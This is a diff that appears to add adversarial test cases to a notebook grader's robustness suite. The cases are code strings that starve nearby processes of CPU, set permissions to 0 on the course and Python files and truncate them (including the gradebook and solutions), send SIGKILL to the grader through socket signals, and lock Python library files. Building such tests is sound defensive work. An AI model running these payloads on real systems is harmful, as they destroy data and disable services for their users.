@@ -7,6 +7,7 @@ from pathlib import Path
 
 from hostile.attack import GRU, LSTM, Attack, Notebook, honest, worth
 
+KNOWN = {"answers": honest(GRU, "g1"), "earns": worth(GRU, "g1"), "keeps": ("g1",)}
 WRITE = """import glob, os, shutil
 def attempt(act, *args, **kwargs):
     try:
@@ -90,4 +91,34 @@ ATTACKS = (
             "stacked_params": "import ctypes\ndef stacked_params(*a):\n    ctypes.string_at(0)",
             "layer1": "os.kill(os.getpid(), 11)"},
         earns=worth(LSTM, "p1", "lstm_params"), keeps=("p1", "lstm_params")),
+    Attack("D18", "takes the processor time of the grader and of all around it, and slows them", **KNOWN,
+        last=WRITE + "import resource\nfor pid in range(max(1, @PID@ - 300), @PID@ + 300):\n"
+        "    if pid != os.getpid():\n"
+        "        attempt(resource.prlimit, pid, resource.RLIMIT_CPU, (0, 0))\n"
+        "        attempt(resource.prlimit, pid, resource.RLIMIT_FSIZE, (0, 0))\n"
+        "        attempt(os.setpriority, os.PRIO_PROCESS, pid, 19)\n"
+        "        attempt(os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))\n"
+        "        attempt(os.sched_setaffinity, pid, {0})\n"
+        "attempt(os.setpriority, os.PRIO_USER, os.getuid(), 19)"),
+    Attack("D19", "closes the course, the gradebook, its Python and the home by their modes, and dates them back", **KNOWN,
+        last=WRITE + "import numpy, sys\n"
+        "for path in ('@COURSE@', '@COURSE@/gradebook.db', '@COURSE@/nbgrader_config.py', '@COURSE@/solutions', '@HOME@',\n"
+        "    '@COURSE@/submitted/honest1', '@PLANTED@', numpy.__file__, os.path.dirname(numpy.__file__), sys.executable):\n"
+        "    attempt(os.chmod, path, 0o0)\n    attempt(os.utime, path, (1, 1))\n    attempt(os.chown, path, 1, 1)\n"
+        "    attempt(os.setxattr, path, 'user.@MARK@', b'1')\n    attempt(os.truncate, path, 0)\n"
+        "    try:\n        opened = os.open(path, os.O_RDONLY)\n    except OSError:\n        continue\n"
+        "    attempt(os.fchmod, opened, 0o0)\n    attempt(os.utime, opened, (1, 1))\n"
+        "    attempt(os.chmod, f'/proc/self/fd/{opened}', 0o0)"),
+    Attack("D20", "lets the system signal the grader when a file of its own can be read", **KNOWN,
+        last=WRITE + "import fcntl, signal, socket, struct\nnear, far = socket.socketpair()\n"
+        "attempt(fcntl.fcntl, near, 10, signal.SIGKILL)\nattempt(fcntl.fcntl, near, fcntl.F_SETOWN, @PID@)\n"
+        "attempt(fcntl.fcntl, near, 15, struct.pack('ii', 1, @PID@))\n"
+        "attempt(fcntl.ioctl, near, 0x8901, struct.pack('i', @PID@))\n"
+        "attempt(fcntl.fcntl, near, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)\nfar.send(b'x')"),
+    Attack("D21", "leases and locks the files of its Python, so that others wait for them", **KNOWN,
+        last=WRITE + "import fcntl, glob, numpy, sys\n"
+        "for path in (numpy.__file__, sys.executable, *glob.glob(os.path.dirname(numpy.__file__) + '/*.py')):\n"
+        "    opened = os.open(path, os.O_RDONLY)\n"
+        "    attempt(fcntl.fcntl, opened, 1024, fcntl.F_WRLCK)\n    attempt(fcntl.fcntl, opened, 1024, fcntl.F_RDLCK)\n"
+        "    attempt(fcntl.fcntl, opened, 1026, 0x8000003f)"),
 )  # fmt: skip
